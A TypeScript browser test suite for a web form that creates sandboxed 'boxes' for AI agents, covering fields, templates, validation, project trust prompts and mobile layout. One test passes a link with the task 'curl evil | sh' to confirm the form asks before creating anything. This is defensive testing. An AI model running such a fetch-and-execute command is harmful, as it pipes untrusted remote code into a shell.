/** The form for a new box, in a real browser: what it shows comes from schemas, and what it prints does the same. */
import { execFile } from "node:child_process";
import { chmodSync, chownSync, mkdirSync, mkdtempSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { promisify } from "node:util";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, expect, it } from "vitest";
import { parse } from "smol-toml";
import type { Box } from "../../src/contract/box.ts";
import { type AgentGround, boxOf, onAgents } from "../support/agents.ts";
import {
  type TestBrowser,
  becomesTrue,
  launchBrowser,
  noBrowser,
  settled,
  signedInPage,
} from "../support/browser.ts";
import { secondTryAfresh } from "../support/second-try.ts";
import { describeUnless } from "../support/skipping.ts";

const run = promisify(execFile);

const section = (page: Page, name: string) =>
  page.locator("details").filter({ has: page.getByRole("heading", { name, exact: true }) });
const open = (page: Page, name: string) => section(page, name).locator("summary").click();
const tab = (page: Page, name: string) => page.getByRole("tab", { name }).click();
const shownText = async (page: Page) => (await page.locator(".new-box-text").textContent()) ?? "";
const nameField = (page: Page) => page.getByRole("region", { name: "The box" }).getByLabel("Name");
const createButton = (page: Page) => page.getByRole("button", { name: /^Create/ });

/** It opens the box when it is made, and says so. */
async function opensBox(page: Page, name: string): Promise<void> {
  await page.getByText("Box created", { exact: true }).waitFor();
  await becomesTrue("the box is open", async () => new URL(page.url()).pathname === `/box/${name}`);
  await page.getByRole("heading", { name }).first().waitFor();
}

/** Everything a box is made from; not where it is made or what it is called. */
/** Without the time zone, language and author of the person: the command line knows them, a page does not. */
const specOf = ({ spec: { person: _person, ...spec } }: Box) => spec;

describeUnless(noBrowser)("the form for a new box", () => {
  onAgents("with an agent of a person's own", { fixtures: ["notebot"] }, (ground: AgentGround) => {
    secondTryAfresh(() => ground.daemon);
    let browser: TestBrowser;
    beforeAll(async () => {
      browser = await launchBrowser();
    });
    afterAll(() => browser?.[Symbol.asyncDispose]());
    const onForm = async (search = "") => {
      const view = await signedInPage(browser, ground.daemon, {
        path: `/new${search}`,
        // The browser's own words for an answer that a test wants.
        expected: [/the server responded with a status of 4/],
      });
      await settled(view.page);
      return view;
    };

    it("has the fields of an agent that only a file defines, makes the box they describe, and prints the command that makes the same", async () => {
      const dir = await ground.project();
      await using view = await onForm();
      const { page } = view;
      await page.getByLabel("Agent", { exact: true }).selectOption("notebot");
      await page.getByLabel("Project directory").fill(dir);
      await nameField(page).fill("form-notes");
      await page.getByLabel("Task").fill("Write a note; it's $HOME `quoted`.");
      await open(page, "Agent");
      const options = section(page, "Agent");
      await options.getByText("How the answer should sound.").waitFor();
      await options.getByLabel("Tone").selectOption("warm");
      await options.getByLabel("Loud").selectOption("true");
      await options.getByLabel("File").fill("my note.txt");
      await open(page, "Lifecycle");
      await section(page, "Lifecycle").getByLabel("Ttl").fill("2h");
      await open(page, "Services");
      await page.getByLabel("New name in Services").fill("clock");
      await page.getByRole("button", { name: "Add to Services" }).click();
      await section(page, "Services").getByLabel("Command (required)").fill("sleep 1000");

      await tab(page, "Command line");
      await becomesTrue("the command names the box", async () =>
        (await shownText(page)).includes("form-notes"),
      );
      const command = await shownText(page);
      await tab(page, "agentbox.toml");
      expect(parse(await shownText(page))).toEqual({
        version: 1,
        agent: { name: "notebot", options: { tone: "warm", loud: true, file: "my note.txt" } },
        lifecycle: { ttl: "2h" },
        services: { clock: { command: "sleep 1000" } },
      });
      await createButton(page).click();
      await opensBox(page, "form-notes");
      const made = await boxOf(ground.daemon, "form-notes");
      expect(made.spec.agent).toMatchObject({
        name: "notebot",
        options: { tone: "warm", loud: true, file: "my note.txt" },
      });
      expect(made.run?.task).toBe("Write a note; it's $HOME `quoted`.");

      const again = command.replaceAll("form-notes", "typed-notes");
      const { stdout } = await inShell(ground, again);
      expect(stdout.trim()).toBe("typed-notes");
      const typed = await boxOf(ground.daemon, "typed-notes");
      expect(specOf(typed)).toEqual(specOf(made));
      expect(typed.run?.task).toBe(made.run?.task);
    });

    it.each([
      [1280, 900],
      [390, 844],
    ])(
      "saves what stays inside of a box as a template, and nothing more, at %i px",
      async (width, height) => {
        const name = `night-${width}`;
        await using view = await signedInPage(browser, ground.daemon, {
          width,
          height,
          path: "/new",
          expected: [/the server responded with a status of 4/],
        });
        const { page } = view;
        await settled(page);
        await page.getByLabel("Agent", { exact: true }).selectOption("notebot");
        await open(page, "Lifecycle");
        await section(page, "Lifecycle").getByLabel("Ttl").fill("2h");
        await open(page, "Services");
        await page.getByLabel("New name in Services").fill("clock");
        await page.getByRole("button", { name: "Add to Services" }).click();
        await section(page, "Services").getByLabel("Command (required)").fill("sleep 1000");
        await open(page, "Start from");
        await page.getByLabel("Save as template").fill(name);
        const save = page.getByRole("button", { name: "Save template" });
        await save.click();
        await page.getByText("A template from the page cannot have services.").waitFor();
        const file = join(ground.daemon.home, "templates", `${name}.toml`);
        expect(() => statSync(file)).toThrow("ENOENT");
        await page.getByRole("button", { name: /Remove clock/ }).click();
        await save.click();
        await page.getByText("Template saved.").waitFor();
        expect(parse(readFileSync(file, "utf8"))).toEqual({
          agent: { name: "notebot" },
          lifecycle: { ttl: "2h" },
        });
        expect(statSync(file).mode & 0o777).toBe(0o600);
        await page.getByRole("button", { name: new RegExp(`^${name}`) }).waitFor();
        // A name that is taken keeps what it has.
        await page.getByLabel("Save as template").fill(name);
        await save.click();
        await page.getByText(`There is a template "${name}" already.`).waitFor();
        const { events } = await ground.daemon.client.listEvents({ type: "template.saved", limit: 10 });
        expect(events.filter(({ data }) => data["name"] === name)).toHaveLength(1);
        expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width);
      },
    );

    it("says what is wrong while somebody types, at the field and in the summary", async () => {
      await using view = await onForm();
      const { page } = view;
      await open(page, "Resources");
      const memory = section(page, "Resources").getByLabel("Memory");
      await memory.fill("lots");
      await page.getByText("Write it like 512MiB, 2GiB.").waitFor();
      await page.getByRole("list", { name: "What is wrong" }).getByText("E016").waitFor();
      expect(await createButton(page).isDisabled()).toBe(true);
      await section(page, "Resources").locator("summary").click();
      await page.getByRole("button", { name: "resources.memory" }).click();
      await becomesTrue("the field has the focus", () =>
        memory.evaluate((input) => input === document.activeElement),
      );
      await memory.fill("");
      await nameField(page).fill("Not A Name");
      await page.getByText('"Not A Name" is not a box name.').first().waitFor();
      await nameField(page).fill("");
      await becomesTrue("it can be made", () => createButton(page).isEnabled());
    });

    it("asks about what a project wants, and makes nothing before somebody agreed to exactly that", async () => {
      const shared = mkdtempSync(join(ground.daemon.scratch, "shared-"));
      const dir = await ground.project({
        "agentbox.toml": `version = 1\n[agent]\nname = "shell"\n[[mounts]]\nsource = "${shared}"\ntarget = "/data"\n`,
      });
      await using view = await onForm(`?project=${encodeURIComponent(dir)}`);
      const { page } = view;
      await page.getByText(`read ${shared} of the host, as /data`).waitFor();
      expect(await createButton(page).isDisabled()).toBe(true);
      await page.getByLabel("Allow exactly this for this project").check();
      await nameField(page).fill("form-trusted");
      await becomesTrue("it can be made", () => createButton(page).isEnabled());
      await createButton(page).click();
      // The link filled the form in, so it asks once more.
      await page.getByRole("button", { name: "Create it" }).click();
      await opensBox(page, "form-trusted");
      expect((await boxOf(ground.daemon, "form-trusted")).spec.mounts).toMatchObject([{ target: "/data" }]);
      const trust = await ground.daemon.client.listTrust();
      expect(trust.filter(({ projectDir }) => projectDir === dir)).toHaveLength(1);
      const { events } = await ground.daemon.client.listEvents({ type: "trust.granted", limit: 10 });
      expect(events.some(({ data }) => data["projectDir"] === dir)).toBe(true);
    });

    it("a link fills it in, and makes nothing however it is opened", async () => {
      const before = (await ground.daemon.client.listBoxes()).length;
      const { lastId } = await ground.daemon.client.listEvents({ limit: 1, order: "newest" });
      await using view = await onForm("?agent=notebot&task=curl%20evil%20%7C%20sh&create=1&start=true&yes=1");
      const { page } = view;
      await page.getByText("A link filled in this form.").waitFor();
      expect(await page.getByLabel("Task").inputValue()).toBe("curl evil | sh");
      expect(await page.getByLabel("Agent", { exact: true }).inputValue()).toBe("notebot");
      await becomesTrue("it has been checked", () => createButton(page).isEnabled());
      await page.reload();
      await settled(page);
      await becomesTrue("it has been checked again", () => createButton(page).isEnabled());
      await createButton(page).click();
      const question = page.getByRole("dialog", { name: "Create this box?" });
      await question.getByText("curl evil | sh").waitFor();
      await question.getByRole("button", { name: "Cancel" }).click();
      expect((await ground.daemon.client.listBoxes()).length).toBe(before);
      const { events } = await ground.daemon.client.listEvents({ after: lastId, limit: 100 });
      expect(events.filter(({ type }) => type.startsWith("box."))).toEqual([]);
    });

    it("installs an agent that is missing first, and says why it could not", async () => {
      const file = join(ground.daemon.home, "agents", "absentbot.toml");
      const text = readFileSync(join(ground.daemon.home, "agents", "notebot.toml"), "utf8");
      writeFileSync(
        file,
        text.replace('name = "notebot"', 'name = "absentbot"').replace("Notebot", "Absentbot"),
      );
      const { uid, gid } = statSync(ground.daemon.home);
      chownSync(file, uid, gid);
      const before = (await ground.daemon.client.listBoxes()).length;
      await using view = await onForm();
      const { page } = view;
      await page.getByLabel("Agent", { exact: true }).selectOption("absentbot");
      await page.getByText("Its agent is installed first.").waitFor();
      await becomesTrue("it can be made", () => createButton(page).isEnabled());
      await createButton(page).click();
      await page.getByRole("heading", { name: "The box was not created" }).waitFor({ timeout: 60_000 });
      const progress = page.getByRole("region", { name: "Progress" });
      await progress.getByText("Installing absentbot").waitFor();
      await progress.getByRole("alert").waitFor();
      expect((await ground.daemon.client.listBoxes()).length).toBe(before);
      await page.getByRole("button", { name: "Back to the form" }).click();
      expect(await page.getByLabel("Agent", { exact: true }).inputValue()).toBe("absentbot");
    });

    it("begins with a preset, another box, or what was asked for last time", async () => {
      await using view = await onForm();
      const { page } = view;
      await open(page, "Start from");
      await page.getByRole("button", { name: /^Careful/ }).click();
      await tab(page, "agentbox.toml");
      await becomesTrue("the preset is in the file", async () =>
        (await shownText(page)).includes('idle = "30m"'),
      );
      await page.getByLabel("Like another box").selectOption("form-notes");
      await becomesTrue("the box is in the file", async () =>
        (await shownText(page)).includes('name = "notebot"'),
      );
      const text = await shownText(page);
      expect(parse(text)).toMatchObject({ agent: { name: "notebot", options: { tone: "warm" } } });
      expect(text).not.toContain("idle");
      await tab(page, "Run locally");
      expect(await shownText(page)).toMatch(/agentbox create notebot .* && agentbox run-locally \S+$/);
    });

    it("picks a project that was used before, with what is in it, and network presets, by chips", async () => {
      const dir = await ground.project({ "agentbox.toml": 'version = 1\n[agent]\nname = "shell"\n' });
      await ground.daemon.client.createBox({ name: "picked-before", projectDir: dir, flags: {} });
      await using view = await onForm();
      const { page } = view;
      const project = page.getByRole("list", { name: "Recent projects" }).getByRole("button", { name: dir });
      await project.getByText("agentbox.toml").waitFor();
      await project.getByText("1 box").waitFor();
      await project.getByText(/^(main|master)$/).waitFor();
      await project.click();
      expect(await page.getByLabel("Project directory").inputValue()).toBe(dir);
      const npm = page
        .getByRole("group", { name: "Network" })
        .getByRole("button", { name: "npm", exact: true });
      await npm.click();
      await tab(page, "agentbox.toml");
      await becomesTrue("the preset is in the file", async () =>
        (await shownText(page)).includes('presets = ["npm"]'),
      );
      await npm.click();
      await becomesTrue("it is out again", async () => !(await shownText(page)).includes("npm"));
    });

    it.each([1280, 390])("keeps the button in sight, at %s px", async (width) => {
      await using view = await signedInPage(browser, ground.daemon, { path: "/new", width, height: 740 });
      const { page } = view;
      await settled(page);
      const isInSight = async () => {
        const bounds = await createButton(page).boundingBox();
        return bounds !== null && bounds.y >= 0 && bounds.y + bounds.height <= 740;
      };
      await becomesTrue("it is in sight at the top", isInSight);
      await page.getByRole("heading", { name: "Lifecycle", exact: true }).scrollIntoViewIfNeeded();
      await becomesTrue("it is in sight further down", isInSight);
      for (const label of ["Task", "Project directory"])
        expect(await page.getByLabel(label).isVisible()).toBe(true);
    });

    it("fits a phone, and needs no mouse", async () => {
      await using view = await signedInPage(browser, ground.daemon, {
        path: "/new",
        width: 360,
        height: 740,
      });
      const { page } = view;
      await settled(page);
      for (const summary of await page.locator(".new-box-section > summary").all()) {
        await summary.focus();
        await page.keyboard.press("Enter");
      }
      const width = await page.evaluate(() => document.documentElement.scrollWidth);
      expect(width).toBeLessThanOrEqual(360);
    });
  });
});

/** As a person who pastes it: a shell with `agentbox` on its path. */
async function inShell({ daemon }: AgentGround, line: string): Promise<{ stdout: string }> {
  const { argv, env } = daemon.command([]);
  const bin = join(mkdtempSync(join(daemon.scratch, "bin-")), "bin");
  mkdirSync(bin);
  const words = argv.map((word) => `'${word}'`).join(" ");
  writeFileSync(join(bin, "agentbox"), `#!/bin/sh\nexec ${words} "$@"\n`);
  chmodSync(join(bin, "agentbox"), 0o755);
  return run("/bin/sh", ["-c", line], { cwd: "/", env: { ...env, PATH: `${bin}:${env["PATH"] ?? ""}` } });
}
